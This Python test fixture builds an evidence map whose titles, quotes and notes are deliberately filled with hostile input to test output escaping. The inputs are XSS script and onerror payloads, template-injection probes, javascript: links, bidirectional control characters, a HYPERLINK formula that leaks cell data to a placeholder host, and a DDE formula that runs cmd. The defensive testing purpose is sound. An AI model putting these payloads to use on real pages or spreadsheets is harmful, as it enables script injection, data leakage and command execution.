"""A map of hostile documents: markup, Markdown, formulas, invisible and bidirectional marks."""

from __future__ import annotations

from dataclasses import replace

from kb.cite import cite_text, pin
from kb.evidence.evidence_map import EvidenceMap, Row
from kb.evidence.gaps import Work
from kb.evidence.model import Gap, LinkStatus, Relation
from kb.evidence.reanchor import OrphanedJudgement
from kb.models import Kind
from kb.recommend.model import Area, Recommendation, Stance
from kb.span import Span
from tests.kb.evidence.conftest import Put, confirming, linked

ATTACKS = (
    "<script>window.hacked=1</script><img src=x onerror='window.hacked=1'>",
    "</blockquote></li></ul><svg/onload=window.hacked=1> &amp; \" ' ]]> <!-- -->",
    "{{ 7 * 7 }} {% if true %} ${7*7}",
    "![i](http://h.example/i.png) [l](javascript:alert(1)) <javascript:alert(1)> **b** `c` | d |",
    "turned \u202e\u2066 hidden \u2069\x07\x00\x1b[31m end",
)
FORMULA = '=HYPERLINK("http://h.example/?"&A1,"open")'
SAID = f"Congress should fund lamps {' '.join(ATTACKS)}"
FOUND = (FORMULA, f"The lamps failed {' '.join(ATTACKS)}", "- + a list item = 1", "@SUM(1+1)*cmd|' /C calc'!A0")  # fmt: skip
MARKS = set("\u202e\u2066\u2069\x07\x00\x1b")


def hostile_map(put: Put) -> EvidenceMap:
    """One recommendation with a link of each relation or so; all its words are in the library."""
    name = ATTACKS[0]
    brief = put(
        "brief", f"A brief\n\n{SAID}", title=f"Title {name}", publisher=FORMULA, date="2031"
    )
    report = put("report", "\n\n".join(("A report", *FOUND)), title=f"# {ATTACKS[3]}", publisher=f"P {ATTACKS[4]}", kind=Kind.REPORT)  # fmt: skip
    span = Span(brief.text.index(SAID), len(brief.text))
    rec = Recommendation(
        "brief.r-1", "brief", span, SAID, (span,), (name, FORMULA), f"fund {ATTACKS[1]}", (FORMULA,),
        Area.ARMS, Stance.RECOMMENDS, progress=f"open {name}",
    )  # fmt: skip
    relations = (Relation.SUPPORTS, Relation.CHALLENGES, Relation.QUALIFIES, Relation.BACKGROUND)
    links = [
        linked(
            rec, report, quote, relation, judges=(name, FORMULA), status=LinkStatus.CONFIRMED,
            note=f"{FORMULA}\n{ATTACKS[3]}", reasons=(ATTACKS[1],), sources=("report", name),
        )
        for quote, relation in zip(FOUND, relations, strict=True)
    ]  # fmt: skip
    own = replace(
        links[1], link_id="l-own", independent=False, status=LinkStatus.SUGGESTED, judges=()
    )
    no = replace(links[1], link_id="l-no", status=LinkStatus.REJECTED)
    cited = cite_text(pin(brief, span), brief.metadata)
    row = Row(rec, (*links, own, no), (Work("report", Kind.REPORT, 2031),), (Gap.NO_EVALUATION,), cited, "", True)  # fmt: skip
    lost = OrphanedJudgement(
        confirming(links[0], "0", name, rec_id=f"brief.r-{name}"), f"gone {ATTACKS[0]}"
    )
    return EvidenceMap((row,), {"brief": brief.metadata.title}, (lost,), (), (f"notice {name}",))
